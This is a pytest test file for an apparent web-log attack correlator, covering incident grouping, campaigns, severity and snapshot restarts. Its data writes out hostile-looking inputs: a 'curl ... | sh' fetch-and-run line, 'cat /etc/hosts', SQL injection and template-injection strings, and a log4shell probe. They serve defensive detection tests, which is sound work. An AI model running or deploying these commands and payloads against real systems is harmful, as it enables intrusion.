from __future__ import annotations

from collections.abc import Sequence
from datetime import timedelta
from itertools import pairwise
from typing import Any
from urllib.parse import quote_plus

import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from event_tables import NOON, event, events
from logvision.detect import scenarios
from logvision.detect.alerts import alerts_of
from logvision.detect.behaviour import Behaviour
from logvision.detect.correlate import Correlator
from logvision.incident import Incident
from logvision.schema import ALERT, EVENT

# Reading the addresses of crawlers takes a moment, and no test here is about them.
RULES = [rule for rule in scenarios.load([scenarios.shipped()]) if rule.id != "fake-crawler"]


def attack(kind: str, target: str, at: float = 0, score: float = 0.95, **more: Any) -> dict[str, Any]:
    given = {"outcome": "missed", "rules": f"{kind}-rule"} | more
    return event(attack=kind, target=target, score=score, time=NOON + timedelta(seconds=at), **given)


PLAIN_ALERT = pa.schema(
    [field.with_type(pa.string()) if pa.types.is_dictionary(field.type) else field for field in ALERT]
)


class Desk:
    """Behaviour and correlation together, as an engine runs them; the latest state of every incident."""

    def __init__(self) -> None:
        self.behaviour, self.correlator = Behaviour(RULES), Correlator()
        self.incidents: dict[str, Incident] = {}

    def read(self, table: pa.Table) -> None:
        alerts = pa.concat_tables([alerts_of(table), self.behaviour.step(table)])
        for incident in self.correlator.step(alerts, table):
            self.incidents[incident.id] = incident

    @property
    def own(self) -> list[Incident]:
        return [i for i in self.incidents.values() if i.part_of is None]


def incidents(*rows: dict[str, Any]) -> list[Incident]:
    desk = Desk()
    desk.read(events(rows))
    return desk.own


def test_alerts_group_attacks_by_actor_class_and_rules() -> None:
    rows = [
        attack("sqli", "/a?x=1", 0, client_ip="192.0.2.1", score=0.6),
        attack("sqli", "/a?x=2", 3, client_ip="192.0.2.1", outcome="worked"),
        attack("xss", "/a?x=3", 1, client_ip="192.0.2.1"),
        attack("sqli", "/a?x=4", 2, client_ip="192.0.2.2", rules=None, score=0.7),
        event(),
    ]
    alerts = alerts_of(events(rows))
    assert alerts.schema == ALERT
    wanted = ["detector", "rule", "attack", "severity", "actor", "outcome", "events", "explanation"]
    assert [tuple(row.values()) for row in alerts.select(wanted).to_pylist()] == [
        ("signature", "sqli-rule", "sqli", "high", "ip:192.0.2.1", "worked", 2, "SQL injection: 2 requests."),
        (
            "signature",
            "xss-rule",
            "xss",
            "medium",
            "ip:192.0.2.1",
            "missed",
            1,
            "Cross-site scripting: 1 request.",
        ),
        (
            "classifier",
            "classifier",
            "sqli",
            "high",
            "ip:192.0.2.2",
            "missed",
            1,
            "SQL injection: 1 request.",
        ),
    ]
    assert [[e["position"] for e in row] for row in alerts["evidence"].to_pylist()] == [[0, 1], [2], [3]]
    assert alerts_of(EVENT.empty_table()) == ALERT.empty_table()


def test_one_scanners_noise_is_one_incident_that_says_what_happened() -> None:
    rows = [attack("probe", f"/admin-{i}", i, status=404) for i in range(20)]
    rows += [attack("sqli", f"/item?id={i}%27", 20 + i, outcome="blocked") for i in range(5)]
    (incident,) = incidents(*rows)
    assert incident.actor == "ip:198.51.100.7"
    assert incident.attacks == {"probe": 20, "sqli": 5}
    assert (incident.stage, incident.outcome, incident.severity) == ("exploit", "missed", "medium")
    assert (incident.events, incident.first_seen) == (25, NOON)
    assert {"probe-rule", "sqli-rule"} <= set(incident.rules)
    assert len(incident.evidence) == 20
    assert incident.summary == (
        "198.51.100.7 tried admin and framework paths and SQL injection on shop.example: "
        "25 requests within 24 seconds; nothing it tried was there."
    )
    assert incident.advice_keys == ("nothing", "block_actor")
    assert Incident.from_dict(incident.to_dict()).to_dict() == incident.to_dict()


@pytest.mark.parametrize("size", [1, 7, 13, 39])
def test_what_a_scenario_began_has_one_name_however_events_are_cut(size: int) -> None:
    rows = events(
        event(method="POST", target="/login", status=401, time=NOON + timedelta(seconds=n)) for n in range(40)
    )
    whole, cut = Desk(), Desk()
    whole.read(rows)
    for start in range(0, 40, size):
        cut.read(rows.slice(start, size))
    assert [i.id for i in cut.own] == [i.id for i in whole.own]
    assert len(whole.own) == 1


def test_what_is_too_little_waits_until_more_comes() -> None:
    desk = Desk()
    desk.read(events([attack("probe", "/wp-login.php")]))
    desk.read(events([attack("probe", "/wp-login.php", 10, position=1)]))
    assert desk.own == []
    desk.read(events([attack("sensitive", "/.env", 20, position=2), attack("probe", "/x", 21, position=3)]))
    assert [(i.events, i.stage) for i in desk.own] == [(4, "recon")]


def test_one_sure_exploit_or_one_success_is_an_incident_at_once() -> None:
    assert [i.severity for i in incidents(attack("log4shell", "/?x=${jndi:a}", outcome="unknown"))] == [
        "critical"
    ]
    assert [i.severity for i in incidents(attack("sensitive", "/.env", outcome="worked", score=0.6))] == [
        "high"
    ]
    assert incidents(attack("sqli", "/?q=a", score=0.6)) == []
    doubted = [attack("sqli", f"/?id={word}", n, score=0.6) for n, word in enumerate("abcd")]
    assert incidents(*doubted[:3]) == []
    assert len(incidents(*doubted)) == 1
    assert [i.stage for i in incidents(attack("webshell", "/up/x.php", outcome="worked"))] == ["foothold"]


def test_quiet_for_long_ends_an_incident() -> None:
    desk = Desk()
    desk.read(events([attack("rce", "/a", 0)]))
    desk.read(events([attack("rce", "/b", 5 * 3600, position=1)]))
    assert len(desk.own) == 1
    desk.read(events([attack("rce", "/c", 28 * 3600, position=2)]))
    assert [i.events for i in desk.own] == [3]
    desk.read(events([attack("rce", "/d", 53 * 3600, position=3)]))
    assert [i.events for i in desk.own] == [3, 1]
    assert len(incidents(attack("rce", "/a", 0), attack("rce", "/c", 25 * 3600))) == 2


def test_what_is_no_incident_yet_is_forgotten_sooner() -> None:
    probes = [attack("probe", f"/p{n}", n * 7 * 3600) for n in range(3)]
    assert incidents(*probes) == []
    assert len(incidents(*[attack("probe", f"/p{n}", n * 5 * 3600) for n in range(3)])) == 1


CODE = ["union all select null", "<?php echo", "import os; os.system", "__proto__", "cat /etc/hosts",
        "<div onclick=", "xp_cmdshell", "file:///tmp", "{% for x in y %}", "curl -s https://a.example | sh",
        "phpinfo()", "INSERT INTO t VALUES (1)"]  # fmt: skip


def searches(words: Sequence[str], every: float) -> list[dict[str, Any]]:
    return [
        attack("sqli", f"/search?type=code&q={quote_plus(word)}", n * every, score=0.8, outcome="unknown")
        for n, word in enumerate(words)
    ]


def test_who_searches_for_code_all_day_is_no_attacker() -> None:
    assert incidents(*searches(CODE, 3600)) == []
    assert incidents(*searches(CODE[:9], 20)) == []
    assert incidents(*searches([CODE[0][:n] for n in range(3, 21)], 1)) == []  # typed letter by letter


def test_who_sends_a_search_much_that_looks_like_an_attack_is_an_attacker() -> None:
    assert len(incidents(*searches(CODE, 20))) == 1
    assert len(incidents(*searches(["1' or 1=1--", 'x" and sleep(5)--', "') or 1=1#", "{{7*7}}"], 20))) == 1


def test_a_search_in_question_beside_something_else_in_question_counts_as_any_request() -> None:
    rows = [
        attack("rce", f"/search?q=a&file={quote_plus(word)}", n, score=0.7)
        for n, word in enumerate([*CODE[:3], CODE[4]])
    ]
    assert len(incidents(*rows)) == 1


def test_greetings_of_one_other_protocol_are_one_probe() -> None:
    hello = [attack("protocol", f"\\x16\\x03\\x01\\x0{n}{n}", n, method=None, path=None) for n in range(9)]
    assert incidents(*hello) == []
    others = [
        attack("protocol", f"\\x0{n}\\x00\\x00", n, method=None, path=None, position=20 + n) for n in (1, 2)
    ]
    assert len(incidents(*hello, *others)) == 1


def test_addresses_of_one_network_that_do_the_same_are_one_campaign() -> None:
    desk = Desk()
    for i in range(6):
        row = attack("rce", f"/x?{i}", 60 * i, client_ip=f"192.0.2.{i}", user_agent="tool", position=i + 1)
        desk.read(events([row]))
    (campaign,) = desk.own
    assert (campaign.actor, campaign.member_count, campaign.events) == ("net:192.0.2.0/24", 6, 6)
    parts = [i for i in desk.incidents.values() if i.part_of]
    assert {i.part_of for i in parts} == {campaign.id}
    assert {i.actor for i in parts} == {f"ip:192.0.2.{i}" for i in range(4)}


def test_addresses_of_one_network_with_different_agents_are_different_actors() -> None:
    rows = [attack("rce", f"/x?{i}", i, client_ip=f"192.0.2.{i}", user_agent=f"tool {i}") for i in range(6)]
    assert len(incidents(*rows)) == 6


def far(count: int, every: float, agent: str | None = None, **more: Any) -> list[dict[str, Any]]:
    return [
        attack(
            "sensitive",
            f"/backup/{n % 40}.zip",
            n * every,
            method="HEAD",
            client_ip=f"10.{n % 12}.{n % 5 + n // 200}.{n % 200}",
            user_agent=agent,
            position=n + 1,
            **more,
        )
        for n in range(count)
    ]


def test_a_list_dealt_out_to_addresses_everywhere_is_one_campaign() -> None:
    desk = Desk()
    for row in far(60, 30):
        desk.read(events([row]))
    (campaign,) = desk.own
    assert (campaign.actor, campaign.member_count, campaign.events) == ("agent:-", 60, 60)
    assert campaign.summary == (
        "60 addresses with one agent tried secret files on shop.example: 60 requests within 29 minutes; "
        "nothing it tried was there."
    )
    assert [(i.member_count, i.events) for i in incidents(*far(60, 30))] == [(60, 60)]


def test_a_campaign_of_very_many_addresses_says_that_there_are_more() -> None:
    (campaign,) = incidents(*far(1200, 1))
    assert campaign.member_count == 1000
    assert campaign.summary.startswith("1000 or more addresses with one agent tried secret files")


def test_addresses_that_do_the_same_now_and_then_or_with_agents_of_their_own_are_no_campaign() -> None:
    assert incidents(*far(60, 400)) == []
    assert incidents(*(row | {"user_agent": f"tool {n}"} for n, row in enumerate(far(60, 30)))) == []
    assert incidents(*far(60, 30, "Mozilla/5.0", score=0.7)) == []


def test_a_log_whose_days_come_in_any_order_does_not_join_them() -> None:
    days = [attack("rce", f"/x?{n}", day * 86400.0, position=n) for n, day in enumerate([90, 1, 40, 3])]
    assert sorted(i.events for i in incidents(*days)) == [1, 1, 1, 1]


@pytest.mark.parametrize("order", [range(12), range(11, -1, -1), [n % 2 * 6 + n // 2 for n in range(12)]])
def test_logs_of_two_days_read_by_turns_or_backwards_are_an_incident_a_day(order: Sequence[int]) -> None:
    rows = [attack("rce", f"/x?{n}", n // 6 * 4 * 86400.0 + n * 60, position=n + 1) for n in range(12)]
    desk = Desk()
    for n in order:
        desk.read(events([rows[n]]))
    assert sorted((i.first_seen, i.last_seen, i.events) for i in desk.own) == [
        (rows[0]["time"], rows[5]["time"], 6),
        (rows[6]["time"], rows[11]["time"], 6),
    ]


def test_what_comes_between_two_incidents_of_an_actor_makes_them_one() -> None:
    desk = Desk()
    for position, day in enumerate([0, 1.5, 0.75], 1):
        desk.read(events([attack("rce", f"/x?{day}", day * 86400, position=position)]))
    (whole,) = desk.own
    assert (whole.events, whole.last_seen - whole.first_seen) == (3, timedelta(days=1.5))
    assert [i.part_of for i in desk.incidents.values() if not i.active] == [whole.id]


def posing(
    address: str, day: float, agent: str = "Mozilla/5.0 (compatible; Googlebot/2.1)"
) -> dict[str, Any]:
    """An overflow of the scenario of false crawlers, as an alert's row."""
    at = NOON + timedelta(days=day)
    source = {"source": f"{address} {day}", "position": 1}
    return {"detector": "behaviour", "rule": "fake-crawler", "attack": "fake_bot", "severity": "medium",
            "score": 0.85, "actor": f"ip:{address}", "site": "shop.example", "outcome": "unknown",
            "first_seen": at, "last_seen": at + timedelta(hours=1), "events": 5, "evidence": [source],
            "explanation": agent}  # fmt: skip


@pytest.mark.parametrize("backwards", [False, True])
def test_false_crawlers_of_one_network_are_one_incident_for_as_long_as_they_come_again(
    backwards: bool,
) -> None:
    visits = [posing(f"192.0.2.{n % 5}", 1.5 * n) for n in range(10)]
    visits += [posing("203.0.113.9", 3), posing("192.0.2.77", 40)]
    desk, told = Correlator(), {}
    for row in reversed(visits) if backwards else visits:
        (seen,) = row["evidence"]
        at = event(time=row["first_seen"], client_ip=row["actor"][3:], user_agent=row["explanation"], **seen)
        alert = pa.Table.from_pylist([row], schema=PLAIN_ALERT).cast(ALERT)
        told |= {incident.id: incident for incident in desk.step(alert, events([at]))}
    own = [i for i in told.values() if i.part_of is None]
    assert sorted((i.actor, i.events, i.member_count) for i in own) == [
        ("ip:192.0.2.77", 5, 1),
        ("ip:203.0.113.9", 5, 1),
        ("net:192.0.2.0/24", 50, 5),
    ]


@pytest.mark.parametrize(
    ("kinds", "outcome", "severity", "told"),
    [
        (["rce"], "missed", "high", "nothing it tried was there"),
        (["rce"], "unknown", "critical", "whether it worked cannot be told"),
        (["webshell"], "missed", "medium", "nothing it tried was there"),
        (["brute_force"], "missed", "high", "no password fitted"),
        (["brute_force", "rce"], "missed", "high", "nothing it tried worked"),
        (["flood"], "missed", "medium", "the server held"),
        (["stuffing"], "worked", "critical", "at least one password likely fitted"),
    ],
)
def test_severity_and_sentence_follow_class_and_outcome(
    kinds: list[str], outcome: str, severity: str, told: str
) -> None:
    rows = [attack(kind, f"/{kind}/{n}", n, outcome=outcome) for n in range(4) for kind in kinds]
    (incident,) = incidents(*rows)
    assert incident.severity == severity
    assert incident.summary.endswith(f"; {told}.")


def test_a_confidence_of_seven_tenths_is_not_below_itself() -> None:
    guesses = [
        event(method="POST", target="/login", status=401, time=NOON + timedelta(minutes=15 * n))
        for n in range(60)
    ]
    (slow,) = incidents(*guesses)
    assert (slow.rules, slow.severity) == (("login-brute-force-slow",), "high")


def test_stuffing_from_everywhere_is_one_campaign_and_a_success_in_it_is_seen() -> None:
    def sign_in(i: int, status: int, at: float) -> dict[str, Any]:
        return event(
            client_ip=f"10.{i}.1.1",
            method="POST",
            target="/session",
            status=status,
            kind="api",
            time=NOON + timedelta(seconds=at),
        )

    rows = [sign_in(i, 401, 2 * i) for i in range(40)]
    (campaign,) = incidents(*rows)
    assert (campaign.actor, campaign.member_count, campaign.outcome) == ("site:shop.example", 40, "missed")
    assert campaign.attacks == {"stuffing": 40}
    (worse,) = incidents(*rows, sign_in(7, 204, 81))
    assert (worse.outcome, worse.stage, worse.severity) == ("worked", "foothold", "critical")
    assert worse.evidence[-1].status == 204
    assert worse.advice_keys == ("read_answers", "reset_accounts", "limit_sign_in")


def test_a_guesser_who_gets_in_is_a_foothold() -> None:
    rows = [
        event(method="POST", target="/login", status=401, time=NOON + timedelta(seconds=i)) for i in range(30)
    ]
    (before,) = incidents(*rows)
    assert (before.outcome, before.stage, before.severity) == ("missed", "exploit", "high")
    inside = event(method="POST", target="/login", status=302, time=NOON + timedelta(seconds=31))
    (after,) = incidents(*rows, inside)
    assert (after.outcome, after.stage) == ("worked", "foothold")


def form(client: int, status: int, at: float) -> dict[str, Any]:
    return event(
        client_ip=f"10.{client}.1.1",
        method="POST",
        target="/account/login",
        status=status,
        time=NOON + timedelta(seconds=at),
    )


def test_a_success_is_seen_in_the_first_of_two_campaigns_that_came_in_one_batch() -> None:
    rows = [form(i % 27, 302 if i == 60 else 200, i) for i in range(80)]
    rows += [form(i % 27, 200, 4 * 3600 + i) for i in range(80)]
    table = events([row | {"position": place + 1} for place, row in enumerate(rows)])
    desk = Desk()
    desk.read(table)
    assert [(i.outcome, i.stage) for i in sorted(desk.own, key=lambda i: i.first_seen)] == [
        ("worked", "foothold"),
        ("missed", "exploit"),
    ]


def test_who_signed_in_before_or_long_after_a_campaign_did_not_get_in_by_it() -> None:
    rows = [form(5, 302, -600), *(form(i % 27, 200, i) for i in range(80)), form(5, 302, 3 * 3600)]
    (campaign,) = incidents(*rows)
    assert campaign.outcome == "missed"


def test_what_a_flood_was_answered_is_told_event_by_event() -> None:
    statuses = [200] * 600 + [503] * 300
    rows = [
        event(target="/", status=s, time=NOON + timedelta(seconds=n / 50)) for n, s in enumerate(statuses)
    ]
    (flood,) = incidents(*rows)
    assert flood.outcome == "worked"
    assert {(e.status, e.outcome) for e in flood.evidence} <= {(200, "missed"), (503, "worked")}


def test_a_list_of_users_that_was_given_is_told_and_what_was_not_there_is_none() -> None:
    rows = [event(target=f"/?author={n}", status=404, time=NOON + timedelta(seconds=n)) for n in range(8)]
    assert {i.outcome for i in incidents(*rows, attack("probe", "/x", 9))} <= {"unknown", "missed"}
    users = [
        event(target=f"/{n}/wp-json/wp/v2/users", status=200, time=NOON + timedelta(seconds=n))
        for n in range(8)
    ]
    (listed,) = incidents(*users)
    assert (listed.outcome, listed.stage, listed.severity) == ("worked", "probe", "medium")


def everything() -> pa.Table:
    rows = [attack("probe", f"/p{i}", 10 * i, client_ip="192.0.2.1", status=404) for i in range(30)]
    rows += [
        attack("rce", f"/r{i}", 10 * i + 1, client_ip=f"203.0.113.{i}", user_agent="x") for i in range(12)
    ]
    rows += [event(target=f"/m{i}", status=404, time=NOON + timedelta(seconds=3 * i)) for i in range(40)]
    rows.sort(key=lambda row: row["time"])
    return events([row | {"position": place + 1} for place, row in enumerate(rows)])


def told(table: pa.Table, cuts: Sequence[int], restart: bool = False) -> list[tuple[Any, ...]]:
    desk = Desk()
    for begin, end in pairwise([0, *sorted(cuts), table.num_rows]):
        desk.read(table.slice(begin, end - begin))
        if restart:
            again = Correlator()
            again.restore(desk.correlator.snapshot())
            desk.correlator = again
    return sorted(
        (i.actor, i.events, i.stage, i.outcome, i.severity, i.first_seen, i.last_seen, i.member_count)
        for i in desk.own
    )


EVERYTHING = everything()


@given(st.lists(st.integers(0, EVERYTHING.num_rows), max_size=5), st.booleans())
@settings(max_examples=10, deadline=None)
def test_cuts_and_restarts_do_not_change_what_is_told(cuts: list[int], restart: bool) -> None:
    assert told(EVERYTHING, cuts, restart) == told(EVERYTHING, [])


@pytest.mark.slow
def test_what_an_actor_sends_is_kept_within_bounds() -> None:
    desk = Desk()
    long = [
        attack("rce", f"/{n}?" + "x" * 100_000, n, user_agent=f"{n}" + "y" * 9_000, referer="z" * 9_000,
               rules=f"rule-{n}", position=n)
        for n in range(400)
    ]  # fmt: skip
    desk.read(events(long))
    (incident,) = desk.own
    assert incident.attacks["rce"] == 400
    assert len(desk.correlator.snapshot()) < 400_000  # of 47 MB


def test_the_number_of_actors_followed_is_bounded() -> None:
    correlator = Correlator()
    for batch in range(2):
        rows = [
            attack(
                "rce", "/x", i, client_ip=f"10.{batch}.{i >> 8}.{i & 255}", user_agent=f"{i}", position=i + 1
            )
            for i in range(3000)
        ]
        table = events(rows)
        assert len(correlator.step(alerts_of(table), table)) == 3000
    assert len(correlator._followed) == 4096
